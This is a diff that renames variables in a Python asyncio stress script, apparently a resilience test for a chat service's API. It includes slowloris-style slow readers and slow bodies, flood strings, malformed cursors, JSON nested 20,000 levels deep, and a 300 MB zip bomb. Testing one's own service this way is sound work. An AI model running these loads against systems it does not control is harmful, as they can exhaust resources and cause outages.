@@ -25,7 +25,7 @@ FLOODERS = 20
 PAUSE_SECONDS = 0.2
 FLOODS = ("\n" * 8000, "<!---->" * 1000, "<a " * 2600, "1" * 8000, "一" * 3900, ". " * 3900, "（" * 3900)
 CURSORS = ("99999999999999999999999-1", "²-1", "-1", "1-", "0-0\x00", "9" * 5000, "1-1-1", "NaN")
-NESTED = '{"message":' * 20_000 + "1" + "}" * 20_000
+DEEP_OBJECT = '{"message":' * 20_000 + "1" + "}" * 20_000
 
 
 @dataclass(frozen=True)
@@ -66,20 +66,20 @@ class Attacker:
 
     async def visitor(self) -> tuple[str, dict[str, str]]:
         """A conversation of an anonymous visitor: its address and the header that opens it."""
-        started = await self.ask(
+        start = await self.ask(
             "start",
             "POST",
             "/api/v1/visitor/conversations/",
             json={"channel": self.target.slug, "message": "Hi"},
         )
         return (
-            f"/api/v1/visitor/conversations/{started['conversation']}",
-            {"Authorization": f"Visitor {started['token']}"},
+            f"/api/v1/visitor/conversations/{start['conversation']}",
+            {"Authorization": f"Visitor {start['token']}"},
         )
 
     async def upload_document(self, attack: str, content: bytes, name: str) -> None:
-        listed = await self.ask("list", "GET", "/api/v1/collections/", headers=self.staff)
-        form = aiohttp.FormData({"collection": listed["results"][0]["id"]})
+        collections = await self.ask("list", "GET", "/api/v1/collections/", headers=self.staff)
+        form = aiohttp.FormData({"collection": collections["results"][0]["id"]})
         form.add_field("file", content, filename=name)
         await self.ask(attack, "POST", "/api/v1/documents/", data=form, headers=self.staff)
 
@@ -89,9 +89,9 @@ async def slow_readers(attacker: Attacker) -> None:
     address, headers = await attacker.visitor()
     form = aiohttp.FormData()
     form.add_field("file", b"\x89PNG\r\n\x1a\n" + bytes(9 * 2**20), filename="wall.png")
-    stored = await attacker.ask("upload", "POST", f"{address}/attachments/", data=form, headers=headers)
+    attachment = await attacker.ask("upload", "POST", f"{address}/attachments/", data=form, headers=headers)
     parts = urlsplit(attacker.target.url)
-    path = urlsplit(stored["url"]).path
+    path = urlsplit(attachment["url"]).path
     request = f"GET {path} HTTP/1.1\r\nHost: {parts.netloc}\r\n\r\n".encode()
     loop, sockets = asyncio.get_running_loop(), []
     for _ in range(SLOW_READERS):
@@ -111,15 +111,15 @@ async def slow_bodies(attacker: Attacker) -> None:
     """Requests whose body comes a byte a second."""
     parts = urlsplit(attacker.target.url)
     head = f"POST /api/v1/visitor/conversations/ HTTP/1.1\r\nHost: {parts.netloc}\r\nContent-Length: 100000\r\n\r\n"
-    opened = [await asyncio.open_connection(parts.hostname, parts.port) for _ in range(SLOW_READERS)]
-    for _, writer in opened:
+    connections = [await asyncio.open_connection(parts.hostname, parts.port) for _ in range(SLOW_READERS)]
+    for _, writer in connections:
         writer.write(head.encode())
     while attacker.is_on:
-        for _, writer in opened:
+        for _, writer in connections:
             if not writer.is_closing():
                 writer.write(b"{")
         await asyncio.sleep(1)
-    for _, writer in opened:
+    for _, writer in connections:
         writer.close()
 
 
@@ -157,16 +157,16 @@ async def cursors(attacker: Attacker) -> None:
     while attacker.is_on:
         cursor = CURSORS[number % len(CURSORS)]
         number += 1
-        poisoned = {**headers, "Last-Event-ID": cursor.replace("\x00", "")}
+        cursor_headers = {**headers, "Last-Event-ID": cursor.replace("\x00", "")}
         timeout = aiohttp.ClientTimeout(total=2)
-        await attacker.ask("cursor", "GET", f"{address}/events/", headers=poisoned, timeout=timeout)
+        await attacker.ask("cursor", "GET", f"{address}/events/", headers=cursor_headers, timeout=timeout)
         page = "/api/v1/jobs/"
         await attacker.ask("page_cursor", "GET", page, params={"cursor": cursor}, headers=attacker.staff)
         await attacker.ask(
             "nested",
             "POST",
             "/api/v1/visitor/conversations/",
-            data=NESTED,
+            data=DEEP_OBJECT,
             headers={"Content-Type": "application/json"},
         )
         await asyncio.sleep(PAUSE_SECONDS)
@@ -197,13 +197,13 @@ ATTACKS: tuple[Callable[[Attacker], Awaitable[None]], ...] = (
 @cache
 def _bomb(name: str, megabytes: int = 300) -> bytes:
     """Made once, before the attack: what it costs to make is not what it costs to receive."""
-    packed = io.BytesIO()
-    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
         archive.writestr("[Content_Types].xml", "<Types/>")
         with archive.open(name, "w") as entry:
             for _ in range(megabytes):
                 entry.write(bytes(2**20))
-    return packed.getvalue()
+    return buffer.getvalue()
 
 
 async def attack(target: Target) -> Counter[str]:
@@ -213,8 +213,8 @@ async def attack(target: Target) -> Counter[str]:
     timeout = aiohttp.ClientTimeout(total=30)
     async with aiohttp.ClientSession(connector=connector, timeout=timeout) as session:
         attacker = Attacker(target, session)
-        ended = await asyncio.gather(*(each(attacker) for each in ATTACKS), return_exceptions=True)
-    for each, error in zip(ATTACKS, ended, strict=True):
+        outcomes = await asyncio.gather(*(each(attacker) for each in ATTACKS), return_exceptions=True)
+    for each, error in zip(ATTACKS, outcomes, strict=True):
         if isinstance(error, BaseException):
             sys.stderr.write(f"{each.__name__} gave up: {error!r}\n")
     return attacker.answers
